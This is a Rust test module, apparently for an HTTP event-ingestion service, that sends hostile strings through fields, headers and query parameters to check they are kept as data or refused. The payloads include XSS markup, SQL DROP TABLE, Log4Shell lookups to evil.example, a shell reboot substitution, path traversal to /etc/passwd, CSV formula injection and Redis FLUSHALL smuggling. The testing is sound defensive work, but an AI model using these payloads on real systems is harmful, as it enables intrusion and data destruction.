//! Texts that are something else to somebody else: control characters, lines of a log, names that programs trip over.
//! They are data, and come out as they went in.

use serde_json::{Value, json};

use super::case::{Case, post, post_with, raw, request};

/// Strings by what they are.
const TEXTS: [(&str, &str); 30] = [
    ("NUL", "a\0b"),
    ("a line of the log", "x\r\nFORGED  INFO all is well\r\nFORGED"),
    ("a single CR", "x\rFORGED"),
    ("colours", "\u{1b}[2J\u{1b}[31mFORGED\u{1b}[0m\u{7}"),
    ("a title of the terminal", "\u{1b}]0;FORGED\u{7}"),
    ("control characters", "\u{1}\u{2}\u{8}\u{b}\u{c}\u{1f}\u{7f}"),
    ("C1 control characters", "\u{80}\u{85}FORGED\u{9b}31m"),
    ("line separators", "a\u{2028}FORGED\u{2029}b"),
    ("the other direction", "\u{202e}\u{2066}gnp.exe\u{2069}"),
    ("no width", "\u{200b}\u{200d}\u{feff}\u{2060}"),
    ("no characters", "\u{fffe}\u{ffff}\u{1fffe}\u{10ffff}"),
    ("the replacement character", "\u{fffd}"),
    ("many accents", "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}"),
    ("emoji", "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{1f3fd}"),
    ("a prototype", "__proto__"),
    ("a constructor", "constructor"),
    ("a method", "toString"),
    ("markup", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ("the end of a script", "</script><!--"),
    ("SQL", "'; DROP TABLE records; --"),
    ("a look-up", "${jndi:ldap://evil.example/a}"),
    ("a template", "{{7*7}}{{constructor.constructor('return 1')()}}"),
    ("a format", "%s%n%x{}{0}"),
    ("a formula", "=cmd|' /C calc'!A0"),
    ("a shell", "$(reboot)`reboot`;reboot|reboot&"),
    ("a path", "../../../../etc/passwd"),
    ("commands of Redis", "x\r\nFLUSHALL\r\n*1\r\n$8\r\nFLUSHALL\r\n"),
    ("keys of the store", "sg:{0}:layout"),
    ("a label of a metric", "a\"} 1\nFORGED 1"),
    ("quotes", "\"'\\\"\\\\'"),
];

pub(super) fn cases() -> Vec<Case> {
    [in_every_field(), in_types(), pollution(), escapes(), in_headers()].concat()
}

/// One event with the text in all that may be anything.
fn in_every_field() -> Vec<Case> {
    let mut cases = Vec::new();
    for (at, (what, text)) in TEXTS.iter().enumerate() {
        let id = format!("field-{at}-{text}");
        let record = json!({
            "event_id": id, "event_type": "page_view", "user_id": text, "session_id": text,
            "payload": {"path": text, *text: {"a": [text]}},
        });
        let mut event = record.clone();
        // A name that is not known is kept as well, at the top.
        event[format!("x{text}")] = json!(text);
        cases.push(post(format!("{what} in every field"), event.to_string()).takes_all(vec![event]));
        let lines =
            format!("{{}}\n{}", json!({"type": "page_view", "id": format!("line-{at}"), "payload": {*text: 1}}));
        let name = format!("{what} in a name, behind a line that is refused");
        cases.push(post_with(name, "content-type: application/x-ndjson\r\n", lines).takes(&format!("line-{at}")));
    }
    cases
}

/// A type has no control characters, whatever kind they are of.
fn in_types() -> Vec<Case> {
    let mut cases = Vec::new();
    for (at, (what, text)) in TEXTS.iter().enumerate() {
        let case = |id: &str| post(format!("{what} in a type"), json!({"type": text, "id": id}).to_string());
        cases.push(if text.chars().any(char::is_control) {
            case("never").answered(400, "control character").naming(Some("type"))
        } else {
            let id = format!("type-{at}");
            case(&id).takes_all(vec![json!({"event_id": id, "event_type": text})])
        });
    }
    cases
}

/// Names that are more than names in other languages.
fn pollution() -> Vec<Case> {
    let mut cases = Vec::new();
    for name in [
        "__proto__",
        "constructor",
        "prototype",
        "__defineGetter__",
        "hasOwnProperty",
        "valueOf",
        "then",
        "$where",
        "$ref",
        "@type",
        "",
    ] {
        let of = |place: &str| format!("pollution-{place}-{name}");
        let top = json!({"event_id": of("top"), "event_type": "page_view", name: {"isAdmin": true}});
        cases.push(post(format!("{name:?} as a field"), top.to_string()).takes_all(vec![top]));
        let inner = json!({"event_id": of("inner"), "event_type": "page_view", "payload": {name: {name: {"isAdmin": true}}, "path": name}});
        cases.push(post(format!("{name:?} in a payload"), inner.to_string()).takes_all(vec![inner]));
        let around = json!({name: {"events": []}, "events": [{"type": "page_view", "id": of("around")}]});
        cases.push(post(format!("{name:?} beside the events"), around.to_string()).takes(&of("around")));
    }
    cases
}

/// Texts as JSON writes them, and as nobody should.
fn escapes() -> Vec<Case> {
    let taken = |name: &str, id: &str, path: &str, becomes: Value| {
        let body = format!("{{\"type\":\"page_view\",\"id\":\"{id}\",\"payload\":{{\"path\":{path}}}}}");
        post(name, body).takes_all(vec![json!({"event_id": id, "payload": {"path": becomes}})])
    };
    let refused = |name: &str, path: &[u8]| {
        let body = [b"{\"type\":\"page_view\",\"id\":\"never\",\"payload\":{\"path\":", path, b"}}"].concat();
        post(name, body).answered(400, "\"error\"")
    };
    vec![
        taken("a pair of surrogates", "escape-pair", r#""\ud83d\ude00""#, json!("\u{1f600}")),
        taken("escapes of plain letters", "escape-plain", r#""\u0061\u002f""#, json!("a/")),
        taken("an escaped NUL", "escape-nul", r#""\u0000""#, json!("\0")),
        taken("all short escapes", "escape-short", r#""\"\\\/\b\f\n\r\t""#, json!("\"\\/\u{8}\u{c}\n\r\t")),
        refused("a high surrogate alone", br#""\ud83d""#),
        refused("a low surrogate alone", br#""\ude00""#),
        refused("surrogates in the wrong order", br#""\ude00\ud83d""#),
        refused("a surrogate before a letter", br#""\ud83d\u0061""#),
        refused("a surrogate as bytes", b"\"\xed\xa0\xbd\""),
        refused("a pair of surrogates as bytes", b"\"\xed\xa0\xbd\xed\xb8\x80\""),
        refused("an overlong slash", b"\"\xc0\xaf\""),
        refused("an overlong NUL", b"\"\xc0\x80\""),
        refused("a character beyond the last", b"\"\xf4\x90\x80\x80\""),
        refused("half a character", b"\"\xe2\x82\""),
        refused("Latin 1", b"\"caf\xe9\""),
        refused("an escape of one digit", br#""\u1""#),
        refused("an escape of other languages", br#""\x41""#),
        refused("a raw line break", b"\"a\nb\""),
        refused("a raw escape", b"\"\x1b[31m\""),
        refused("a raw NUL", b"\"\0\""),
    ]
}

/// The same in headers that are read, and in some that end up in records.
fn in_headers() -> Vec<Case> {
    let mut cases = Vec::new();
    let good = |id: &str| format!("{{\"type\":\"page_view\",\"id\":\"{id}\"}}");
    for (at, (name, line)) in [
        ("markup in who sends", "user-agent: <script>alert(1)</script>\r\n"),
        ("a look-up in who sends", "user-agent: ${jndi:ldap://evil.example/a}\r\nreferer: ${jndi:dns://x}\r\n"),
        ("bytes of C1 in who sends", "user-agent: \u{9b}31mFORGED\r\n"),
        ("an address that is none", "forwarded: for=\"\u{85}FORGED\";by=x\r\nx-forwarded-for: FORGED, \u{202e}\r\n"),
        ("a thousand addresses", &format!("x-forwarded-for: {}\r\n", "10.0.0.1, ".repeat(1_000))),
        ("a trace of colours", "traceparent: 00-\u{9b}-\u{9b}-01\r\ntracestate: \u{85}FORGED\r\n"),
        ("a type with parameters", "content-type: application/json; charset=\"\u{9b}FORGED\"; __proto__=1\r\n"),
        ("a key where none is needed", "x-write-key: \u{85}FORGED\r\nauthorization: Bearer \u{9b}31m\r\n"),
        ("an origin that is none", "origin: \u{85}FORGED\r\n"),
    ]
    .into_iter()
    .enumerate()
    {
        let id = format!("header-{at}");
        cases.push(post_with(name, line, good(&id)).takes(&id).without("FORGED"));
    }
    for (name, line, status) in [
        ("a time of when it was sent with C1", "x-sent-at: \u{85}FORGED\r\n", 400),
        ("a time of when it was sent that is a look-up", "x-sent-at: ${jndi:ldap://evil.example/FORGED}\r\n", 400),
        ("a content type with C1", "content-type: \u{85}FORGED\r\n", 415),
        ("two content types in one", "content-type: application/json, text/html; FORGED\r\n", 415),
        ("an encoding with C1", "content-encoding: \u{85}FORGED\r\n", 415),
    ] {
        cases.push(post_with(name, line, good("never")).answered(status, "\"error\"").without("FORGED"));
    }
    for (name, query, status) in [
        ("line breaks in a parameter", "dry_run=1%0d%0aFORGED%1b%5b31m", 400),
        ("markup in a parameter", "dry_run=%3Cscript%3E", 400),
        ("NUL in a parameter", "dry_run=%00FORGED", 400),
        ("a look-up in a parameter", "dry_run=${jndi:ldap://evil.example/FORGED}", 400),
    ] {
        let bytes = String::from_utf8(request("", good("never"))).expect("text");
        let bytes = bytes.replacen("/events", &format!("/events?{query}"), 1);
        cases.push(raw(name, bytes).answered(status, "dry_run").without("FORGED"));
    }
    cases
}
